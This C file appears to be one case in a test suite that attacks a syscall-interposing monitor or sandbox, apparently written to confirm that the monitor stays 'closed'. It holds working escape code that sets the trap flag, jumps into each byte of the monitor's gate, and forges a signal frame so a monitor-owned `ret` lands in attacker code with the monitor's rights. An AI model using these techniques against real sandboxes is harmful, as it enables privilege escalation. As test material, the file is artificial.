/*
 * I10: an entry with TF set, for the sake of the step that is hidden there: the monitor goes on
 * from where the program says that it stands, which is a `ret` of the monitor's own, with its
 * rights. So at each byte from the gate's entry on, and by a signal frame with TF.
 */
#include "attack.h"
#include <ucontext.h>

#define AROUND    48                            /* bytes of the gate, from its entry on */
#define OPEN_PAGE (4 * PAGE / sizeof(uint64_t)) /* from the thread block; rax, rcx, rdx, r11 */
#define FLAG_TF   0x100

static uintptr_t entry, victim; /* where to jump, and what is said to be the program's place */
static uint64_t *target;

static void *volatile goes_on;
static uint64_t stack[64] __attribute__((aligned(16)));
static volatile int *opened; /* shared with the parent: a call might not come back */

/* `ret` leads here, with whose rights ever. */
static void open_target(void)
{
    *(volatile uint64_t *)target = FOREIGN_VALUE;
    for (*opened = 1;;) {
        __asm__ volatile("pause");
    }
}

static void ignore(int signo)
{
    (void)signo;
}

static void by_entry(void)
{
    uint64_t *open = thread_block() + OPEN_PAGE;
    alarm(3); /* some never come back */
    signal(SIGTRAP, ignore);
    stack[32] = (uint64_t)goes_on;
    for (int i = 0; i < 5; i++) {
        open[i] = victim + 2;
    }
    __asm__ volatile("mov %[stack], %%rsp\n"
                     "pushfq\n"
                     "orq %[tf], (%%rsp)\n"
                     "popfq\n"
                     "jmp *%[entry]\n"
                     :
                     : [stack] "r"(stack + 32), [tf] "i"(FLAG_TF), [entry] "r"(entry),
                       "a"(SYS_getppid), "c"(victim + 2)
                     : "memory");
    __builtin_unreachable();
}

/* A call that sends a signal of no consequence to its own thread: a way of its own leads back. */
static void by_own_signal(void)
{
    alarm(3);
    stack[32] = (uint64_t)goes_on;
    __asm__ volatile("mov %[stack], %%rsp\n"
                     "jmp *%[entry]\n"
                     :
                     : [stack] "r"(stack + 32), [entry] "r"(entry), "a"(SYS_tgkill), "c"(victim),
                       "D"(getpid()), "S"(gettid()), "d"(SIGURG)
                     : "memory");
    __builtin_unreachable();
}

static void change_frame(int signo, siginfo_t *info, void *context)
{
    greg_t *registers = ((ucontext_t *)context)->uc_mcontext.gregs;
    (void)signo;
    (void)info;
    stack[32] = (uint64_t)goes_on;
    registers[REG_RSP] = (greg_t)(stack + 32);
    registers[REG_RIP] = (greg_t)victim;
    registers[REG_EFL] |= FLAG_TF;
}

static void by_frame(void)
{
    struct sigaction action = {.sa_sigaction = change_frame, .sa_flags = SA_SIGINFO};
    alarm(3); /* some never come back */
    signal(SIGTRAP, ignore);
    MUST(sigaction(SIGUSR1, &action, NULL));
    raise(SIGUSR1);
}

/* The target is the child's own. */
static bool succeeds(void (*attack)(void))
{
    int status;
    pid_t pid = MUST(fork());
    if (pid == 0) {
        attack();
        _exit(0);
    }
    while (!*opened && waitpid(pid, &status, WNOHANG) == 0) {
        sched_yield();
    }
    if (*opened) {
        MUST(kill(pid, SIGKILL));
        wait_for(pid);
    }
    return *opened;
}

/* Stubs of rewritten calls begin with the gate's address. */
static uintptr_t find_gate(void)
{
    struct range text = monitor_image("r-xp"), range;
    uintptr_t gate = 0;
    FILE *maps = fopen("/proc/self/maps", "re");
    CHECK(maps != NULL, "maps: %s", strerror(errno));
    while (gate == 0 && next_anonymous_code(maps, &range)) {
        uintptr_t first = *(const uintptr_t *)range.start;
        gate = first >= text.start && first < text.end ? first : 0;
    }
    fclose(maps);
    CHECK(gate != 0, "no stubs are mapped");
    return gate;
}

int main(void)
{
    static const uint8_t ret[] = {0xc3};
    void (*function)(void) = open_target;
    uintptr_t gate;
    memcpy((void *)(uintptr_t)&goes_on, &function, sizeof function);
    target = target_page_for_kernel();
    if (must_win()) {
        *(volatile uint64_t *)target = FOREIGN_VALUE;
        reached();
    }
    CHECK_EQ(find_in_image(ret, sizeof ret, &victim, 1), 1, "a ret in the monitor");
    opened = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    CHECK(opened != MAP_FAILED, "mmap: %s", strerror(errno));
    if (succeeds(by_frame)) {
        reached();
    }
    gate = find_gate();
    for (entry = gate; entry < gate + AROUND; entry++) {
        if (succeeds(by_entry) || succeeds(by_own_signal)) {
            reached();
        }
    }
    not_reached("closed");
}
